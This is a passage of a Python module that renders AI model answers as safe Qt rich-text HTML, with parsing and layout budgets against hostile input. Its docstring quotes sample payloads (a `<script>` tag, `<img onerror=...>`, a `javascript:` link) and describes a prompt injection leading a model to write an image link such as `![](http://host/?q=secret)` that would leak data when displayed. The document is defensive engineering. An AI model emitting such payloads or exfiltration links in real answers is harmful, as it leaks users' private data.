"""Model answers as Markdown, rendered to the HTML subset Qt's rich text engine draws well.

Assistant messages are shown in a ``QLabel`` (rich text), which hands the HTML to
``QTextDocument``. That engine understands a small, old-fashioned subset of HTML 4 and CSS 2,
so this module writes exactly that subset from markdown-it-py's token stream, instead of
post-processing markdown-it's own HTML: every tag and attribute comes from a short allowlist
here, and every piece of model text is escaped.

The work is split by what the libraries already do well:

* **Inline tokens** (text, emphasis, code spans, links, images, breaks) go through
  markdown-it's own renderer rule table: :class:`_QtInlineRenderer` is a ``RendererHTML``
  whose rules write Qt's dialect and apply the safety rules below, and ``renderInline``
  walks the tokens. Its default ``renderToken`` (a tag with all the token's attributes) is
  replaced too, so a token type without a rule can only ever come out as escaped text.
* **Bare URLs** are found by linkify-it-py, through markdown-it's ``linkify`` option, and
  are links only for ``http(s)://`` and ``www.`` (:class:`_BareLinks`); user messages use
  the same linkifier.
* **Blocks** are this module's own writer (:class:`_HtmlWriter`), because markdown-it's
  block HTML is wrong for Qt (no padding outside table cells, margins that do not
  collapse, exponential nested-table layout) and because the writer charges everything to
  the layout budget below and can stop at any block. The inline rules charge the same
  budget, through the state the writer hands them in ``env``.

Why it is built this way (docs/failures.md, item 7, "remote content in answers"):

* **Raw HTML is text.** The parser runs with ``html`` off, so ``<script>``, ``<img
  onerror=...>`` or ``<a href="javascript:...">`` written by a model appear literally, escaped
  (and the ``html_inline``/``html_block`` rules escape it too, should it ever be switched on).
* **Images are never fetched.** A model, or a prompt injection hidden in a picture, can write
  ``![](http://host/?q=secret)``; showing that as ``<img>`` would leak data with zero clicks.
  No ``<img>`` tag (nor any ``src`` or ``background`` attribute) is ever written: an image
  becomes muted text, ``[image: alt] url``, the URL as plain text, not a link.
* **Only http(s) links are links.** Anything else (``javascript:``, ``file:``, ``data:``,
  ``mailto:``, relative paths) is shown as text. Links open only on a click, in the widget,
  which checks the scheme again before handing the URL to the desktop.

Bounded time (also docs/failures.md, item 10, "frozen UI"): the HTML is laid out on the GUI thread,
and both halves of the work can be made slow by a hostile or runaway answer.

* *Parsing.* markdown-it-py is linear in practice but slow on some inputs (about 20 µs per
  character of ``[[[[`` or of empty table rows), so only the first
  :data:`MAX_RENDERED_CHARS` characters are parsed as Markdown.
* *Nesting.* markdown-it's ``maxNesting`` is set, and before it would silently drop the rest
  of a too-deep container, :data:`MAX_BLOCK_DEPTH` turns that container's remaining lines
  into plain text. Qt lays nested tables out in exponential time (16 levels: 20 s), so only
  :data:`_MAX_QUOTE_BARS` levels of quotes get a bar (a table); deeper ones only indent.
* *Layout.* Qt spends roughly 0.1 ms per element and 0.3 ms per table cell (30 000 table
  rows took 35 s), and text inside tables costs about twice as much per level. Everything
  written is charged to a budget of estimated layout time (:data:`MAX_LAYOUT_COST`). Once it
  is spent, inline formatting is dropped, a big code block loses its table, and at the next
  block the rest of the source is shown as plain text, itself capped
  (:data:`MAX_SHOWN_CHARS`, :data:`MAX_SHOWN_LINES`). Nothing is lost: the message's own
  Copy action copies the whole answer.
* *Output size.* Styles live in one ``<style>`` sheet and every token adds a bounded amount
  of markup, so the HTML stays linear in the input (a few times its size at most).

Qt specifics this encodes: padding and backgrounds with padding only work on table cells, so
code blocks and quotes are tables (a quote's bar is a narrow filled cell); heading sizes use
the CSS keywords Qt scales from the widget's font (``large``, ``x-large``), so they follow
the user's font size; code uses ``white-space: pre-wrap`` so a long line wraps inside the
chat bubble instead of widening it; Qt adds nested lists' left margins up, so nested lists
get a fixed 22 px each rather than another 40 px ``-qt-list-indent`` level.

Streaming: the widget calls :func:`render_markdown` on the growing partial answer every few
tens of milliseconds. CommonMark renders partial input sensibly (an unterminated code fence
runs to the end of the text, a table appears once its delimiter row arrives), and a typical
answer of a few kilobytes renders in a few milliseconds.

This module is Qt-free (import-linter checks it); user-visible words come in through
:class:`MarkdownLabels` so the Qt layer can translate them.
"""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Sequence
from dataclasses import dataclass, field, fields
from typing import Any, ClassVar, cast
from urllib.parse import urlsplit

from linkify_it import LinkifyIt
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.rules_block import StateBlock
from markdown_it.rules_block import table as table_rule
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from backends.messages import fill
from desktop_app.qt.chat.highlight import highlight

__all__ = [
    "MAX_BLOCK_DEPTH",
    "MAX_LAYOUT_COST",
    "MAX_NESTING",
    "MAX_RENDERED_CHARS",
    "MAX_SHOWN_CHARS",
    "MAX_SHOWN_LINES",
    "MarkdownLabels",
    "MarkdownTheme",
    "RenderedMarkdown",
    "code_blocks",
    "plain_text_html",
    "render_markdown",
]

MAX_RENDERED_CHARS = 50_000
"""Characters parsed as Markdown; what follows is shown as plain text.

About 12 000 tokens, longer than the answers local models write in one go. markdown-it-py
parses prose at 1-3 µs per character but some inputs (``[[[[...``, empty table rows) cost
~20 µs per character, so this keeps the worst case near one second on a desktop.
"""

MAX_SHOWN_CHARS = 200_000
"""Characters shown at all, Markdown and plain text together; Qt lays out ~3 µs/char."""

MAX_SHOWN_LINES = 3_000
"""Lines of plain text shown past the Markdown limits."""

MAX_LAYOUT_COST = 400_000
"""Budget per message for Qt's layout, in estimated microseconds on a desktop (~0.4 s).

Measured with a rich-text ``QLabel``: about 100 µs per element, 300 µs per table cell,
3 µs per character and 30 µs per line, each doubling per enclosing table. An ordinary long
answer (10 KB with code and a table) uses about a tenth of it.
"""

MAX_NESTING = 20
"""markdown-it's own recursion limit (its ``maxNesting`` option), for blocks and inlines."""

MAX_BLOCK_DEPTH = 16
"""Block nesting level at which the rest of a container is shown as plain text.

Below ``MAX_NESTING`` on purpose: at ``maxNesting`` markdown-it silently discards the rest of
the document. A quote level costs 1, a list level 2, so this allows 16 quotes or 8 lists.
"""

_MAX_QUOTE_BARS = 2
"""Nested quotes drawn with a bar (a table); deeper ones only indent.

Qt lays each nested table out about twice per level (16 levels: 20 s), so with a code block
inside, two bars already make text cost eight times as much as outside.
"""

_MAX_TABLE_COLUMNS = 64
"""Wider tables are shown as their source text: one row alone would blow the budget."""

_MAX_TABLE_ROWS = 1_000
"""Rows parsed as one table (see :func:`_bounded_table`)."""

_COST_ELEMENT = 100
_COST_CELL = 300
_COST_CHAR = 3
_COST_LINE = 30
_COST_SPAN = 10
"""A colour span inside a code block: a format change within a line, not a new element."""
_MAX_SHOWN_URL = 300
"""Characters of a non-link URL shown; the rest is elided (``data:`` URLs can be megabytes)."""

_MAX_LANGUAGE_LABEL = 32
_MAX_PLAIN_LINKS = 1_000
"""Bare URLs linked in a user's message; more are left as text (each link costs Qt ~0.1 ms)."""
_NESTED_LIST_MARGIN = 22

_MONOSPACE = (
    "'JetBrains Mono', 'Cascadia Mono', 'SF Mono', Menlo, Consolas, "
    "'DejaVu Sans Mono', 'Liberation Mono', monospace"
)

_COLOR = re.compile(r"#[0-9a-fA-F]{3,8}|[a-zA-Z]{1,32}")

_STATE = "localsight_inline"
"""Key of the :class:`_InlineState` in the ``env`` handed to the inline renderer."""


@dataclass(frozen=True)
class MarkdownTheme:
    """The few colours Markdown needs beyond the widget's palette (text colour is inherited).

    The window follows the system's light/dark scheme, so there is a preset for each; they
    match ``desktop_app.qt.common.theme`` (the answer bubble is #ffffff in light mode, #24272c in
    dark mode). Values go into a style sheet, so only ``#rgb``-style hex or colour names are
    accepted.
    """

    code_background: str
    code_header_background: str
    muted: str
    link: str
    border: str
    # Syntax colours in code blocks (desktop_app/qt/chat/highlight.py), each at least 4.5:1
    # on ``code_background``: keywords, strings, comments, numbers and built-ins, function
    # names, types, and a diff's added and removed lines.
    syntax_keyword: str = "#b3203a"
    syntax_string: str = "#0a3069"
    syntax_comment: str = "#57606a"
    syntax_number: str = "#0550ae"
    syntax_function: str = "#6f42c1"
    syntax_type: str = "#8a3a00"
    syntax_inserted: str = "#116329"
    syntax_deleted: str = "#82071e"

    def __post_init__(self) -> None:
        for item in fields(self):
            value = getattr(self, item.name)
            if not isinstance(value, str) or not _COLOR.fullmatch(value):
                raise ValueError(f"MarkdownTheme.{item.name}: not a colour: {value!r}")

    @classmethod
    def light(cls) -> MarkdownTheme:
        return cls(
            code_background="#f4f5f7",
            code_header_background="#e9ebef",
            muted="#6b7280",
            link="#2f6fde",
            border="#d0d5dc",
        )

    @classmethod
    def dark(cls) -> MarkdownTheme:
        return cls(
            code_background="#1a1c20",
            code_header_background="#2f333a",
            muted="#9aa1ab",
            link="#6ea2ff",
            border="#454a53",
            syntax_keyword="#ff7b72",
            syntax_string="#a5d6ff",
            syntax_comment="#8b949e",
            syntax_number="#79c0ff",
            syntax_function="#d2a8ff",
            syntax_type="#ffa657",
            syntax_inserted="#7ee787",
            syntax_deleted="#ffa198",
        )


@dataclass(frozen=True)
class MarkdownLabels:
    """Words the renderer writes into the HTML; the Qt layer passes translated ones.

    ``hidden`` may contain ``{count}``, replaced by the number of characters not shown.
    """

    copy: str = "Copy"
    code: str = "code"
    image: str = "image"
    plain: str = "The rest of this message is shown as plain text."
    hidden: str = "{count} more characters are not shown; copy the message to get all of it."


@dataclass(frozen=True)
class RenderedMarkdown:
    """HTML for a rich-text ``QLabel`` plus the raw text of each code block.

    ``code_blocks[n]`` is what the ``copy:n`` link in ``html`` stands for: the block's text
    exactly as the model wrote it (unescaped), without the final line break.
    """

    html: str
    code_blocks: tuple[str, ...] = ()


def render_markdown(
    text: str,
    theme: MarkdownTheme | None = None,
    labels: MarkdownLabels | None = None,
) -> RenderedMarkdown:
    """Render a model's Markdown answer to safe, Qt-friendly HTML (see the module docstring).

    Cheap to call repeatedly on a growing answer; never raises on any input text.
    """
    theme = theme if theme is not None else MarkdownTheme.light()
    labels = labels if labels is not None else MarkdownLabels()
    source, tail = _split_at_limit(_clean(text))
    writer = _HtmlWriter(theme, labels)
    writer.render(_parser().parse(source), source, tail)
    return RenderedMarkdown(html=writer.html(), code_blocks=tuple(writer.code_blocks))


def code_blocks(text: str) -> list[str]:
    """The raw text of each code block in ``text``, in the order of their ``copy:N`` links."""
    return list(render_markdown(text).code_blocks)


def plain_text_html(text: str, theme: MarkdownTheme | None = None) -> str:
    """A user's message as HTML: escaped, line breaks and spaces kept, http(s) URLs linked.

    User messages are not Markdown: people paste code and logs, and ``*`` or ``#`` in them
    should look exactly as typed. Capped at :data:`MAX_SHOWN_CHARS` like answers.
    """
    theme = theme if theme is not None else MarkdownTheme.light()
    text = _clean(text)
    shown = text[:MAX_SHOWN_CHARS]
    link = f'<a href="{{href}}" style="color:{theme.link}">'
    body = _linkify_plain(shown, link, _MAX_PLAIN_LINKS).replace("\n", "<br>")
    more = ""
    if len(text) > len(shown):
        count = f"{len(text) - len(shown):,}"
        more = f'<br><span style="color:{theme.muted}">[… {_esc(count)}]</span>'
    return f'<p style="margin:0; white-space:pre-wrap">{body}{more}</p>'


# -- parsing ------------------------------------------------------------------------------


class _Parser(MarkdownIt):
    """markdown-it, but a bare or ``<autolink>`` URL is shown exactly as it was written."""

    def normalizeLinkText(self, link: str) -> str:
        # markdown-it decodes punycode and %-escapes for display, so the link text
        # "https://xn--pple-43d.com" would read "https://аpple.com" (a Cyrillic "а") while
        # the href stays the punycode host. The href is still normalized (normalizeLink).
        return link


class _BareLinks(LinkifyIt):  # type: ignore[misc]  # linkify-it-py has no type information
    """linkify-it-py limited to what should be a link in an answer or a user's message.

    Schemes: only ``http:`` and ``https:`` (its ``ftp:``, ``mailto:``, ``//`` and e-mail
    address rules are off). Its fuzzy links (a host name without a scheme) are kept only
    when they start with ``www.``: otherwise ``main.py`` or ``notes.md`` (``.py`` and
    ``.md`` are country domains) would become links to hosts, in code-heavy answers.
    Trailing punctuation, balanced brackets and quotes are linkify-it's rules.
    """

    def __init__(self) -> None:
        super().__init__({"ftp:": None, "mailto:": None, "//": None}, {"fuzzy_email": False})

    def match(self, text: str) -> list[Any] | None:
        found = [
            link
            for link in super().match(text) or ()
            if link.schema or link.raw[:4].lower() == "www."
        ]
        return found or None


@functools.lru_cache(maxsize=1)
def _bare_links() -> _BareLinks:
    return _BareLinks()


@functools.lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    """One shared parser: CommonMark + tables + strikethrough + task lists + bare URLs.

    Raw HTML is off, and the renderer is :class:`_QtInlineRenderer` (used for inline tokens
    only). ``parse`` keeps all its state in a fresh state object and the inline rules keep
    theirs in ``env``, so sharing it between threads is safe.
    """
    md = _Parser(
        "commonmark",
        {"html": False, "linkify": True, "typographer": False, "maxNesting": MAX_NESTING},
        renderer_cls=_QtInlineRenderer,
    )
    md.linkify = _bare_links()
    md.options["tasklists"] = True  # older markdown-it-py ignores it: "[x]" stays text
    md.enable(["table", "strikethrough", "linkify"])  # linkify: a core and an inline rule
    md.block.ruler.at("table", _bounded_table, {"alt": ["paragraph", "reference"]})
    md.block.ruler.before("table", "depth_guard", _depth_guard)
    return md


def _bounded_table(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
    """markdown-it's table rule, but a table ends after :data:`_MAX_TABLE_ROWS` rows.

    Table rows are the slowest thing to parse (about 50 µs each) and the layout budget shows
    far fewer as cells anyway; the rows after the limit are parsed as an ordinary paragraph.
    """
    return table_rule(state, start_line, min(end_line, start_line + _MAX_TABLE_ROWS + 2), silent)


def _depth_guard(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
    """At :data:`MAX_BLOCK_DEPTH`, take the rest of the current container as plain text.

    Mirrors the loop in ``ParserBlock.tokenize``: the container ends at the first non-empty
    line indented less than it requires (a lazy continuation line there is then parsed by the
    outer container, which is shallower and fine).
    """
    if silent or state.level < MAX_BLOCK_DEPTH:
        return False
    line = start_line
    last = start_line + 1
    while line < end_line:
        if not state.isEmpty(line):
            if line > start_line and state.sCount[line] < state.blkIndent:
                break
            last = line + 1
        line += 1
    token = state.push("depth_overflow", "", 0)
    token.content = state.getLines(start_line, last, state.blkIndent, False)
    token.map = [start_line, last]
    state.line = last
    return True


def _split_at_limit(text: str) -> tuple[str, str]:
    """Markdown part and plain-text rest; the cut prefers a line break near the limit."""
    if len(text) <= MAX_RENDERED_CHARS:
        return text, ""
    cut = text.rfind("\n", MAX_RENDERED_CHARS - 2_000, MAX_RENDERED_CHARS)
    cut = cut + 1 if cut != -1 else MAX_RENDERED_CHARS
    return text[:cut], text[cut:]


# -- HTML ----------------------------------------------------------------------------------


def _clean(text: str) -> str:
    """markdown-it's own ``normalize`` step, done up front so line numbers agree."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


def _esc(text: str) -> str:
    """Escape text content; quotes may stay, as ``&quot;`` would make them six times longer."""
    return html.escape(text, quote=False)


def _attr(value: str) -> str:
    """Escape an attribute value, quotes included."""
    return html.escape(value, quote=True)


def _safe_href(url: str) -> str | None:
    """``url`` if it is an absolute http(s) URL with a host, else None."""
    if any(c.isspace() or ord(c) < 0x20 or ord(c) == 0x7F for c in url):
        return None
    try:
        parts = urlsplit(url)
        host = parts.hostname
    except ValueError:  # e.g. a malformed IPv6 literal
        return None
    if parts.scheme.lower() not in ("http", "https") or not host:
        return None
    return url


def _elide(url: str) -> str:
    return url if len(url) <= _MAX_SHOWN_URL else url[:_MAX_SHOWN_URL] + "\u2026"


def _linkify_plain(text: str, link_open: str, max_links: int) -> str:
    """Escape ``text``; up to ``max_links`` bare http(s) URLs in it become links.

    ``link_open`` is an ``<a>`` tag with an ``{href}`` slot. The URLs are found by the same
    linkifier as in answers (:class:`_BareLinks`).
    """
    parts: list[str] = []
    pos = 0
    for link in _bare_links().match(text) or ():
        if max_links <= 0:
            break
        href = _safe_href(_parser().normalizeLink(link.url))
        if href is None:
            continue
        parts.append(_esc(text[pos : link.index]))
        shown = _esc(text[link.index : link.last_index])
        parts.append(fill(link_open, href=_attr(href)) + shown + "</a>")
        pos = link.last_index
        max_links -= 1
    parts.append(_esc(text[pos:]))
    return "".join(parts)


def _text_cost(text: str, tables: int) -> int:
    """Text costs more inside tables: Qt lays a cell out about twice per level."""
    cost = len(text) * _COST_CHAR + text.count("\n") * _COST_LINE
    return cost << tables


def _style_sheet(t: MarkdownTheme) -> str:
    """The one style sheet of a rendered answer. Qt matches element and class selectors."""
    return (
        "p{margin-top:0;margin-bottom:8px}"
        "p.li{margin-bottom:4px}"
        "h1,h2,h3,h4,h5,h6{font-weight:600;margin-top:10px;margin-bottom:6px}"
        "h1{font-size:x-large}h2,h3{font-size:large}h4,h5,h6{font-size:medium}"
        f"a{{color:{t.link}}}"
        f"code{{background-color:{t.code_background};font-family:{_MONOSPACE}}}"
        f"pre{{margin:0;white-space:pre-wrap;font-family:{_MONOSPACE}}}"
        "ul,ol{margin-top:0;margin-bottom:8px;margin-left:0;-qt-list-indent:1}"
        f"ul.n,ol.n{{margin-bottom:0;margin-left:{_NESTED_LIST_MARGIN}px}}"
        "li{margin-bottom:2px}"
        f".m{{color:{t.muted}}}"
        f"p.chp{{margin-bottom:0;background-color:{t.code_header_background}}}"
        f"pre.cbp{{margin-bottom:10px;background-color:{t.code_background}}}"
        ".sm{font-size:small}"
        "a.cp{text-decoration:none}"
        "table.cb,table.q,table.hr,table.t{margin-bottom:10px}"
        f"table.t{{border-color:{t.border};border-style:solid;border-collapse:collapse}}"
        f"th{{background-color:{t.code_header_background}}}"
        f"td.ch{{background-color:{t.code_header_background};padding:4px 10px 4px 10px}}"
        f"td.cc{{background-color:{t.code_background};padding:8px 10px 10px 10px}}"
        f"td.bar{{background-color:{t.border}}}"
        f"td.qt{{padding-left:10px;color:{t.muted}}}"
        f"td.hr{{background-color:{t.border};font-size:1px}}"
        "div.q{margin-left:14px;margin-bottom:8px}"
        "p.pl{white-space:pre-wrap}"
        f"p.note{{margin-top:8px;margin-bottom:4px;color:{t.muted};font-style:italic}}"
        f".hk{{color:{t.syntax_keyword}}}.hs{{color:{t.syntax_string}}}"
        f".hc{{color:{t.syntax_comment};font-style:italic}}"
        f".hn,.hb{{color:{t.syntax_number}}}.hf{{color:{t.syntax_function}}}"
        f".ht{{color:{t.syntax_type}}}.hi{{color:{t.syntax_inserted}}}"
        f".hd{{color:{t.syntax_deleted}}}"
    )


_NO_MARGIN = ' style="margin-bottom:0"'


@dataclass
class _Frame:
    """An open element: how to close it and, for blocks, how to drop its bottom margin."""

    close: str
    open_index: int = -1  # index in the output of the opening tag, or -1
    flush_tag: str = ""  # that tag without a bottom margin
    container: bool = False  # its last child block gets its bottom margin removed
    kind: str = ""  # "quote" or "list": a depth counter to decrement on close


class _HtmlWriter:
    """Turns a markdown-it token stream into Qt rich-text HTML.

    Spacing is done with bottom margins only. Qt does not collapse a block's bottom margin
    into the end of a table cell or of the label, so the last block of a container (the
    message, a quote, a list item) has its bottom margin removed when the container closes.
    Every open element is a :class:`_Frame` on a stack, so the output can be cut off cleanly
    at any block once the layout budget is spent.
    """

    def __init__(self, theme: MarkdownTheme, labels: MarkdownLabels) -> None:
        self.theme = theme
        self.labels = labels
        self.out: list[str] = []
        self.code_blocks: list[str] = []
        self._stack: list[_Frame] = []
        self._budget = MAX_LAYOUT_COST
        self._shown = 0  # characters of source rendered or shown as plain text
        self._list_depth = 0
        self._quote_bars = 0
        self._tables = 0  # tables open around the current position (quotes included)
        self._last_closed: tuple[int, str, int] | None = None  # index, flush tag, len(out)
        self._container_start = True

    def html(self) -> str:
        self._end_container()
        return (
            f"<html><head><style>{_style_sheet(self.theme)}</style></head><body>"
            + "".join(self.out)
            + "</body></html>"
        )

    # cost ------------------------------------------------------------------------------

    def _text_cost(self, text: str, extra_tables: int = 0) -> int:
        return _text_cost(text, self._tables + extra_tables)

    def _cell_cost(self, cells: int, extra_tables: int = 0) -> int:
        return (cells * _COST_CELL) << max(self._tables + extra_tables - 1, 0)

    # structure -------------------------------------------------------------------------

    def _open(
        self,
        tag: str,
        close: str,
        *,
        block: bool = True,
        container: bool = False,
        kind: str = "",
    ) -> None:
        """Write ``tag`` and remember how to close it.

        A ``block`` has a bottom margin (from the style sheet) that is dropped if it turns out
        to be the last block of its container; it is on the first tag of ``tag``.
        """
        frame = _Frame(close, container=container, kind=kind)
        if tag:
            self._budget -= _COST_ELEMENT
        if block and tag:
            frame.open_index = len(self.out)
            end = tag.index(">")
            first, rest = tag[:end], tag[end:]
            if ' style="' in first:
                first = first.replace(' style="', ' style="margin-bottom:0;', 1)
            else:
                first += _NO_MARGIN
            frame.flush_tag = first + rest
        if container:
            self._container_start = True
            self._last_closed = None
        elif block:
            self._container_start = False
        if kind == "list":
            self._list_depth += 1
        elif kind in ("quote", "table"):
            self._tables += 1
            self._quote_bars += kind == "quote"
        self._stack.append(frame)
        self.out.append(tag)

    def _pop(self) -> None:
        frame = self._stack.pop()
        if frame.container:
            self._end_container()
        if frame.kind == "list":
            self._list_depth -= 1
        elif frame.kind in ("quote", "table"):
            self._tables -= 1
            self._quote_bars -= frame.kind == "quote"
        self.out.append(frame.close)
        if frame.open_index >= 0:
            self._last_closed = (frame.open_index, frame.flush_tag, len(self.out))

    def _end_container(self) -> None:
        """The container's last block needs no space below it."""
        last = self._last_closed
        if last is not None and last[2] == len(self.out):
            self.out[last[0]] = last[1]
        self._last_closed = None

    def _leaf(self, html_text: str, open_tag: str, close_tag: str) -> None:
        """A block with no children; ``open_tag`` is its margin-bearing first tag."""
        self._open(open_tag, close_tag)
        self.out.append(html_text)
        self._pop()

    # block level -----------------------------------------------------------------------

    def render(self, tokens: Sequence[Token], source: str, tail: str) -> None:
        """Write ``tokens`` (parsed from ``source``), then ``tail`` as plain text."""
        for index, token in enumerate(tokens):
            if token.nesting == -1:
                if self._stack:
                    self._pop()
                continue
            if self._budget <= 0 and token.map is not None and token.type != "inline":
                self._stop(source, token.map[0], tail)
                return
            handler = getattr(self, "_" + token.type, None)
            if handler is not None:
                handler(token, tokens, index)
            elif token.nesting == 1:
                self._open("", "", block=False)  # unknown container: keep the stack balanced
            elif token.content:
                self._plain_block(token.content)  # unknown leaf: show it as text
        self._shown += len(source)
        self._plain_rest(tail)

    def _stop(self, source: str, line: int, tail: str) -> None:
        """Close everything open and show the source from ``line`` on as plain text."""
        while self._stack:
            self._pop()
        lines = source.split("\n")
        self._shown += sum(len(done) + 1 for done in lines[:line])
        self._plain_rest("\n".join(lines[line:]) + tail)

    def _plain_rest(self, text: str) -> None:
        """Text past the Markdown limits: escaped, under a note, capped in length."""
        text = text.strip("\n")
        if not text:
            return
        room = max(MAX_SHOWN_CHARS - self._shown, 0)
        shown = text[:room]
        # Qt also pays per line (a column of "|" or "```" lines is 30 µs a line).
        cut = -1
        for _ in range(MAX_SHOWN_LINES):
            cut = shown.find("\n", cut + 1)
            if cut == -1:
                break
        if cut != -1:
            shown = shown[:cut]
        self._end_container()
        self.out.append(f'<p class="note">{_esc(self.labels.plain)}</p>')
        self._container_start = False
        if shown:
            self._plain_block(shown)
        self._shown += len(shown)
        if len(text) > len(shown):
            count = f"{len(text) - len(shown):,}"
            note = fill(self.labels.hidden, count=count)
            self.out.append(f'<p class="note">{_esc(note)}</p>')

    def _plain_block(self, text: str) -> None:
        text = text.rstrip("\n")
        self._budget -= self._text_cost(text)
        self._leaf(_esc(text), '<p class="pl">', "</p>")

    def _paragraph_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        if token.hidden:  # the paragraphs of a tight list item: no <p>, no margins
            self._open("", "", block=False)
        else:
            # In a list item a paragraph keeps its small margin: it spaces out loose items.
            self._open('<p class="li">' if self._list_depth else "<p>", "</p>")
            if self._list_depth:
                self._stack[-1].open_index = -1

    def _inline(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        """The inline content of a block, through markdown-it's renderer and its rule table."""
        self._container_start = False
        state = _InlineState(self._budget, self._tables, self.labels.image)
        md = _parser()
        renderer = cast(_QtInlineRenderer, md.renderer)
        self.out.append(renderer.renderInline(token.children or [], md.options, {_STATE: state}))
        self._budget = state.budget

    def _heading_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        tag = token.tag if token.tag in ("h1", "h2", "h3", "h4", "h5", "h6") else "h6"
        first = self._container_start
        self._open(f'<{tag} style="margin-top:0">' if first else f"<{tag}>", f"</{tag}>")

    def _hr(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        # Qt's own <hr> is a black line in the text colour; a 1px-font cell is a thin rule.
        self._budget -= self._cell_cost(1, extra_tables=1)
        self._leaf(
            '<tr><td class="hr">&nbsp;</td></tr>',
            '<table class="hr" width="100%" cellspacing="0" cellpadding="0">',
            "</table>",
        )

    def _blockquote_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        if self._quote_bars >= _MAX_QUOTE_BARS:
            self._open('<div class="q">', "</div>", container=True)
            return
        self._budget -= self._cell_cost(2, extra_tables=1)
        self._open(
            '<table class="q" width="100%" cellspacing="0" cellpadding="0">'
            '<tr><td class="bar" width="3"></td><td class="qt">',
            "</td></tr></table>",
            container=True,
            kind="quote",
        )

    def _list_open(self, tag: str, token: Token, tokens: Sequence[Token], index: int) -> None:
        following = tokens[index + 1] if index + 1 < len(tokens) else None
        if following is not None and following.meta and "checked" in following.meta:
            style = "none"  # a task list: the check box is the marker
        elif tag == "ul":
            style = ("disc", "circle", "square")[min(self._list_depth, 2)]
        else:
            style = "decimal"
        start = ""
        first = str(token.attrGet("start") or "")
        if tag == "ol" and first.isdigit():
            start = f' start="{int(first)}"'
        nested = bool(self._list_depth)
        css_class = ' class="n"' if nested else ""
        tag_html = f'<{tag}{start}{css_class} style="list-style-type:{style}">'
        # A nested list has a fixed margin and none below it: nothing to drop.
        self._open(tag_html, f"</{tag}>", block=not nested, kind="list")
        self._container_start = False

    def _bullet_list_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._list_open("ul", token, tokens, index)

    def _ordered_list_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._list_open("ol", token, tokens, index)

    def _list_item_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._open("<li>", "</li>", block=False, container=True)
        checked = token.meta.get("checked") if token.meta else None
        if checked is not None:
            self.out.append("\u2611\u00a0" if checked else "\u2610\u00a0")

    def _fence(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        info = token.info.split()
        self._code(token.content, info[0] if info else "")

    def _code_block(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._code(token.content, "")

    def _code(self, content: str, language: str) -> None:
        """A header bar (language, Copy link) over a shaded, padded body: a borderless table.

        A block too big for the remaining budget is drawn without the table (no padding),
        which Qt lays out two to three times faster.  A labelled block gets syntax colours
        (highlight.py) when its spans fit the budget too; otherwise it is plain.
        """
        code = content[:-1] if content.endswith("\n") else content
        number = len(self.code_blocks)
        self.code_blocks.append(code)
        label = _esc(language[:_MAX_LANGUAGE_LABEL] or self.labels.code)
        copy = f'<a class="cp sm" href="copy:{number}">{_esc(self.labels.copy)}</a>'
        table_cost = self._cell_cost(3, extra_tables=1) + self._text_cost(code, extra_tables=1)
        if table_cost <= self._budget:
            self._budget -= table_cost
            body = _esc(code)
            coloured = highlight(code, language) if language else None
            if coloured is not None:
                span_cost = (coloured[1] * _COST_SPAN) << (self._tables + 1)
                if span_cost <= self._budget:
                    self._budget -= span_cost
                    body = coloured[0]
            self._leaf(
                f'<tr><td class="ch"><span class="m sm">{label}</span></td>'
                f'<td class="ch" align="right">{copy}</td></tr>'
                f'<tr><td class="cc" colspan="2"><pre>{body}</pre></td></tr>',
                '<table class="cb" width="100%" cellspacing="0" cellpadding="0">',
                "</table>",
            )
        else:
            self._leaf(
                f'<span class="m sm">{label}</span> \u00b7 {copy}', '<p class="chp">', "</p>"
            )
            self._budget -= self._text_cost(code)
            self._leaf(_esc(code), '<pre class="cbp">', "</pre>")

    def _table_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        columns = 0
        for following in tokens[index + 1 :]:
            if following.type == "th_open":
                columns += 1
            elif following.type == "tr_close":
                break
        if columns > _MAX_TABLE_COLUMNS:
            self._budget = 0  # render() shows the source text from the next row on
        # Qt honours the border/cellpadding attributes far better than CSS borders.
        self._open(
            '<table class="t" border="1" cellspacing="0" cellpadding="5">',
            "</table>",
            kind="table",
        )

    def _thead_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._open("", "", block=False)

    _tbody_open = _thead_open

    def _tr_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._open("<tr>", "</tr>", block=False)

    def _cell_open(self, tag: str, token: Token) -> None:
        # markdown-it writes column alignment as style="text-align:..."; Qt wants align=.
        style = str(token.attrGet("style") or "")
        align = ""
        for value in ("left", "center", "right"):
            if style == f"text-align:{value}":
                align = f' align="{value}"'
        self._budget -= self._cell_cost(1)
        self._open(f"<{tag}{align}>", f"</{tag}>", block=False)

    def _th_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._cell_open("th", token)

    def _td_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._cell_open("td", token)

    def _depth_overflow(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._plain_block(token.content)

    def _html_block(self, token: Token, tokens: Sequence[Token], index: int) -> None:
        self._plain_block(token.content)  # only if raw HTML were ever switched on


# -- inline level ---------------------------------------------------------------------------


@dataclass
class _InlineState:
    """What the inline rules share while one inline token is rendered; lives in ``env``.

    The renderer is shared (one cached parser), so nothing per-render is kept on it.
    """

    budget: int  # the writer's layout budget; handed back to it afterwards
    tables: int  # tables around the text: each doubles the cost of laying it out
    image_label: str
    # For each open link: None if it became an <a>, else the text to show after it.
    links: list[str | None] = field(default_factory=list)
    # <i>, <b>, <s> written and not yet closed: after the budget runs out no new ones
    # are opened, but those already open still get closed.
    emitted: dict[str, int] = field(default_factory=dict)

    def text(self, text: str) -> str:
        """``text`` escaped, its layout cost charged."""
